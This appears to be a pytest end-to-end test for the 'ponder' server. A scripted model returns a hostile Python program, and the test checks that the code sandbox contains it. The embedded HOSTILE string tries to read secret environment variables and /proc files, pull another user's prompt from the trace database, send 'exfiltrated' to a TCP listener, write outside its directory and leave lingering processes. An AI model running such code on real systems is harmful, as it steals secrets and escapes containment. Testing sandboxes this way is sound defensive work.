"""End to end: a plain chat request to a default server (strategy ``auto``, whose shipped
profile starts with a greedy program), the model scripted to answer with a hostile program.

The program tries what the audit-hook runner let through: the server's secret environment
variable, its trace database (found through /proc/<ppid>/fd, holding another user's prompt),
a TCP listener on 127.0.0.1, a file outside its directory, and a process that outlives the
request and writes later. Through the real openai SDK, over real HTTP.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import openai
import pytest

from ponder.backends.scripted import Reply, ScriptedBackend
from ponder.config import PonderConfig
from ponder.reasoning.prompts import PAL_SYSTEM
from ponder.routing.registry import BackendRegistry
from ponder.server.app import create_app
from ponder.types import GenerationRequest
from tests.fake_openai import serve_app
from tests.processes import left_behind, pids

SECRET_ENV = "PONDER_E2E_SECRET"

HOSTILE = r"""
import os, socket, threading, time
found = []
def attempt(label, fn):
    try:
        found.append((label, fn()))
    except BaseException as exc:
        found.append((label, type(exc).__name__))
attempt("env", lambda: os.environ.get("__ENV__"))
attempt("environ", lambda: open(f"/proc/{os.getppid()}/environ", "rb").read())
attempt("server environ", lambda: open("/proc/__PID__/environ", "rb").read())
def trace_db():
    for fd in os.listdir("/proc/__PID__/fd"):
        target = os.readlink(f"/proc/__PID__/fd/{fd}")
        if target.endswith(".db"):
            return open(target, "rb").read()
attempt("traces by fd", trace_db)
attempt("traces by path", lambda: open("__DB__", "rb").read())
def call_home():
    s = socket.create_connection(("127.0.0.1", __PORT__), timeout=1)
    s.sendall(b"exfiltrated")
    return "sent"
attempt("tcp", call_home)
attempt("write", lambda: open("__CANARY__/pwned", "w").write("x"))
def linger():
    pid = os.fork()
    if pid == 0:
        time.sleep(3)
        open("__CANARY__/late", "w").write("still here")
        os._exit(0)
    return pid
attempt("fork", linger)
def thread_linger():
    time.sleep(3)
    open("__CANARY__/late-thread", "w").write("x")
threading.Thread(target=thread_linger, daemon=False).start()
print(found)
print(7)
"""


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    got: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            got.append(b"<connection>" + conn.recv(1024))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


def test_a_hostile_program_through_the_default_strategy(
    tmp_path: Path, listener: tuple[int, list[bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    port, received = listener
    secret = secrets.token_hex(16)
    monkeypatch.setenv(SECRET_ENV, secret)
    canary = tmp_path / "canary"
    canary.mkdir()
    db = tmp_path / "traces.db"
    program = (
        HOSTILE.replace("__ENV__", SECRET_ENV)
        .replace("__PID__", str(os.getpid()))
        .replace("__DB__", str(db))
        .replace("__PORT__", str(port))
        .replace("__CANARY__", str(canary))
    )

    def script(request: GenerationRequest, index: int) -> Reply:
        if request.messages[0].content == PAL_SYSTEM:
            return Reply(f"```python\n{program}\n```", [-0.001] * 4000)
        return Reply("The answer is: 7", [-0.001] * 8)

    backend = ScriptedBackend(script)
    config = PonderConfig(default_model="m", trace_db=str(db))  # the default strategy: auto
    registry = BackendRegistry(config)
    registry.register("m", backend)
    before = pids()
    with serve_app(create_app(config, registry=registry, close_backends=False)) as url:
        with openai.OpenAI(base_url=f"{url}/v1", api_key="unused", max_retries=0) as client:
            # Another user's prompt, stored in the trace database first.
            client.chat.completions.create(
                model="m", messages=[{"role": "user", "content": f"my password is {secret}"}]
            )
            started = time.monotonic()
            reply = client.chat.completions.create(
                model="m", messages=[{"role": "user", "content": "What is 3 + 4?"}]
            )
            took = time.monotonic() - started
        trace_id = reply.model_extra["ponder"]["trace_id"] if reply.model_extra else None
        trace = httpx.get(f"{url}/v1/traces/{trace_id}").json()
        time.sleep(4.0)  # past the moment the lingering process and thread would write

    assert reply.choices[0].message.content  # a normal answer
    # The profile may run more programs when the first is not confident; each ran alone.
    runs = [
        output
        for c in trace["calls"]
        if "outputs" in c["annotations"]
        for output in c["annotations"]["outputs"]
    ]
    assert runs
    for printed in runs:
        # What the program saw, attempt by attempt: nothing of the host.
        assert printed.splitlines() == [
            "[('env', None), ('environ', 'FileNotFoundError'), "
            "('server environ', 'FileNotFoundError'), ('traces by fd', 'FileNotFoundError'), "
            "('traces by path', 'FileNotFoundError'), ('tcp', 'OSError'), "
            "('write', 'FileNotFoundError'), ('fork', 'PermissionError')]",
            "7",
        ]
    assert secret not in json.dumps(trace) and secret not in str(reply)
    assert received == []  # the listener saw no connection
    assert list(canary.iterdir()) == []  # nothing written outside, now or later
    assert took < 15.0
    assert left_behind(before) == []  # nothing outlived the request
